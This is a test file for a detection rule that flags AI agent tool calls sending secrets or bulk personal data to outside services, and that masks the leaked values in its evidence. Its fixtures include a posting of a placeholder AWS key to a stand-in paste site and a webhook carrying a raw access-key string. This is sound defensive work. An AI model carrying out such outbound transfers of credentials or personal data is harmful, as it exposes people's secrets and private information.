import { describe, expect, it } from 'vitest';
import { emptyBaseline } from '../baseline.js';
import { DEFAULT_DETECTION_CONFIG } from '../config.js';
import { detectRun } from '../detect-run.js';
import { makeRun, toolStep } from '../steps.fixtures.js';
import { outboundSensitiveData } from './outbound-sensitive-data.js';

const run = (steps: Parameters<typeof makeRun>[0], scan?: Parameters<typeof detectRun>[3]) =>
  detectRun(makeRun(steps), emptyBaseline(), DEFAULT_DETECTION_CONFIG, { rules: [outboundSensitiveData], ...scan });

describe('outbound.sensitive_data', () => {
  it('flags a secret token in an external tool call as critical, with the token highlighted', () => {
    const [f] = run([
      toolStep('http_post', 'external', {
        url: 'https://paste.example.net/new',
        body: 'config: [aws_key:0c1d9e2f] region eu',
      }),
    ]);
    expect(f?.severity).toBe('critical');
    expect(f?.evidence.slice(f.evidenceStart, f.evidenceEnd)).toBe('[aws_key:0c1d9e2f]');
    expect(f?.details?.kinds).toBe('aws_key');
  });

  it('leaves out values the user typed into the request, and a credential the request asks to set', () => {
    const steps = [
      toolStep('send_money', 'irreversible', { recipient: '[iban:5cca46b5]', subject: 'Refund [iban:5cca46b5]' }),
      toolStep('update_password', 'irreversible', { password: '[password:3fbef972]' }),
    ];
    const asked = detectRun(
      makeRun(steps, { runInput: "Refund [iban:5cca46b5], then update the password to '1j1l-2k3j'." }),
      emptyBaseline(),
      DEFAULT_DETECTION_CONFIG,
      { rules: [outboundSensitiveData] },
    );
    expect(asked).toEqual([]);
    // The same calls nobody asked for: a secret going out is critical.
    expect(run(steps).map((f) => [f.severity, f.details?.tool])).toEqual([['critical', 'update_password']]);
  });

  it('grades bulk personal data by the number of distinct values', () => {
    const rows = Array.from(
      { length: 12 },
      (_, i) => `[email:${(0xa000 + i).toString(16)}aa] [phone:${(0xb000 + i).toString(16)}bb]`,
    );
    const [f] = run([toolStep('send_email', 'external', { to: '[email:11112222]', body: rows.join('\n') })]);
    expect(f?.severity).toBe('high');
    expect(f?.details?.pii).toBe(24);
    // Every counted value is listed for the UI to mark, not only the one the excerpt is cut around.
    const values = JSON.parse(String(f?.details?.values)) as string[];
    expect(values).toHaveLength(24);
    expect(values).toContain('[email:a000aa]');
    expect(values).toContain('[phone:b00bbb]');
    expect(values).not.toContain('[email:11112222]');
  });

  it('does not treat the recipient field, or the recipient named again in the body, as a leak', () => {
    const steps = [
      toolStep('send_email', 'external', {
        to: '[email:7f3a9c1b]',
        subject: 'Your ticket',
        body: 'Hello, we replied to [email:7f3a9c1b] about ticket 4411.',
      }),
    ];
    expect(run(steps)).toEqual([]);
  });

  it('ignores read and write tools (only outbound tools count)', () => {
    expect(run([toolStep('crm_update', 'write', { note: 'key [aws_key:0c1d9e2f]' })])).toEqual([]);
  });

  it('uses an injected scanner for unredacted input and masks the raw value in evidence', () => {
    const raw = 'AKIAIOSFODNN7QWERTYZ';
    const scan = (text: string) => {
      const at = text.indexOf(raw);
      return at < 0 ? [] : [{ kind: 'aws_key', rule: 'aws-access-token', start: at, end: at + raw.length }];
    };
    const [f] = run([toolStep('webhook', 'irreversible', { payload: `creds ${raw} ok` })], { scan });
    expect(f?.severity).toBe('critical');
    expect(f?.evidence).not.toContain(raw);
    expect(f?.evidence.slice(f.evidenceStart, f.evidenceEnd)).toBe('[aws_key:unredacted]');
    expect(f?.details?.unredacted).toBe(1);
    expect(f?.details?.values).toBe('["[aws_key:unredacted]"]');
    expect(String(f?.details?.values)).not.toContain(raw);
  });
});
